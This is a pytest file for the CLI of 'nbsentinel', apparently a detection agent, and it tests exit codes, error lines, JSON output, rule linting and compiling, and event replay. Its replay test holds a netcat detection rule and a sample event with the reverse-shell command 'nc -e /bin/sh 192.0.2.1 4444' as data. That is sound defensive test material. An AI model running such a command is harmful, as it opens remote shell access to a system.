"""The command line: exit codes, one-line errors with a next step, JSON everywhere."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest

from nbsentinel.cli import COMMANDS, run


@pytest.mark.parametrize("name", COMMANDS)
def test_every_command_explains_itself(name: str, capsys: pytest.CaptureFixture[str]) -> None:
    """Each command has help, and its first line is the one in the list."""
    assert run([name, "--help"]) == 0
    assert "Usage: nbsentinel " + name in capsys.readouterr().out


@pytest.mark.parametrize(
    ("arguments", "code", "words"),
    [
        ([], 2, "Usage"),
        (["nonsense"], 2, "No such command"),
        (["status", "--run-dir", "/nowhere"], 3, "no agent runs here"),
        (["findings", "--run-dir", "/nowhere"], 3, "no agent runs here"),
        (["config", "check", "--config", "/nowhere"], 2, "cannot be read"),
        (["agent", "--config", "/nowhere"], 2, "cannot be read"),
        (["rules", "list", "--rules", "/nowhere"], 2, "No such file"),
        (["rules", "lint", "/nowhere"], 2, "no such file"),
        (["rules", "replay", "--events", "/nowhere"], 2, "No such file"),
        (["collector"], 2, "--config"),
        (["collector", "--config", "/nowhere"], 2, "cannot be read"),
        (["verify", "/nowhere", "--keys", "/nowhere"], 2, "/nowhere"),
    ],
)
def test_errors(arguments: list[str], code: int, words: str, capsys: pytest.CaptureFixture[str]) -> None:
    """A mistake has its exit code and a line that says what is wrong, never a traceback."""
    assert run(arguments) == code
    err = capsys.readouterr().err
    assert words in err
    assert "Traceback" not in err


def test_rules_as_json(capsys: pytest.CaptureFixture[str]) -> None:
    """Programs can read the list of rules."""
    assert run(["rules", "list", "--json"]) == 0
    rules = json.loads(capsys.readouterr().out)
    assert {"id", "name", "title", "level", "category", "techniques"} <= rules[0].keys()


RULE = """title: T
id: 22222222-2222-4222-8222-222222222222
logsource:
  category: process_creation
detection:
  s:
    Image|endswith: /nc
  condition: s
"""


def test_compile_lint_and_replay(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A folder of rules becomes a pack; replay says what fires, from the folder and from the pack alike."""
    rules, pack, events = tmp_path / "rules", tmp_path / "pack.json", tmp_path / "events.ndjson"
    rules.mkdir()
    (rules / "nc.yml").write_text(RULE)
    assert run(["rules", "lint", str(rules)]) == 0
    assert run(["rules", "compile", str(rules), "-o", str(pack)]) == 0
    process = {"pid": 1, "cmd_line": "nc -l", "file": {"path": "/bin/nc"}}
    lines: list[dict[str, object]] = [
        {"category": "process_creation", "Image": "/usr/bin/nc", "CommandLine": "nc -e /bin/sh 192.0.2.1 4444"},
        {"category": "process_creation", "Image": "/usr/bin/ncat"},
        {"class_uid": 1007, "activity_id": 1, "process": process},
        {"class_uid": 6002},
    ]
    events.write_text("".join(json.dumps(line) + "\n" for line in lines))
    for source in (rules, pack):
        capsys.readouterr()
        assert run(["rules", "replay", "--rules", str(source), "--events", str(events), "--json"]) == 0
        found = json.loads(capsys.readouterr().out)
        assert found["events"] == 3
        assert found["matches"] == {"22222222-2222-4222-8222-222222222222": 2}
        assert found["failed_rules"] == []
        assert found["seconds"] >= 0
    (rules / "bad.yml").write_text("title: x\n")
    assert run(["rules", "lint", str(rules)]) == 1
    assert "bad.yml:1" in capsys.readouterr().err


@pytest.mark.parametrize("line", ["{", "[]", "{}", '{"category": 1}'])
def test_replay_names_the_bad_line(tmp_path: Path, line: str, capsys: pytest.CaptureFixture[str]) -> None:
    """A line that is no event is named with file and number."""
    events = tmp_path / "events.ndjson"
    events.write_text(f'{{"category": "x"}}\n{line}\n')
    assert run(["rules", "replay", "--events", str(events)]) == 2
    assert f"{events}:2" in capsys.readouterr().err


def test_broken_pack(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A pack of another format is refused with a next step."""
    pack = tmp_path / "pack.json"
    for content in ("", "{}", '{"format": 99, "rules": []}', '{"format": 1, "rules": [{}]}', "[" * 5000):
        pack.write_text(content)
        assert run(["rules", "list", "--rules", str(pack)]) == 2
        assert "rules compile" in capsys.readouterr().err


def test_config_commands(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """The configuration can be checked, shown and explained."""
    path = tmp_path / "agent.toml"
    assert run(["config", "example"]) == 0
    path.write_text(capsys.readouterr().out)
    assert run(["config", "check", "--config", str(path)]) == 0
    assert "valid" in capsys.readouterr().out
    assert run(["config", "show", "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["report"]["level"] == "context"


def test_start_is_quick_and_light() -> None:
    """Help loads neither the agent nor anything that draws."""
    names = ("rich", "cryptography", "requests", "psutil")
    code = (
        f"import sys; from nbsentinel.cli import run; run(['--help']); print([m for m in {names} if m in sys.modules])"
    )
    result = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert result.stdout.splitlines()[-1] == "[]"
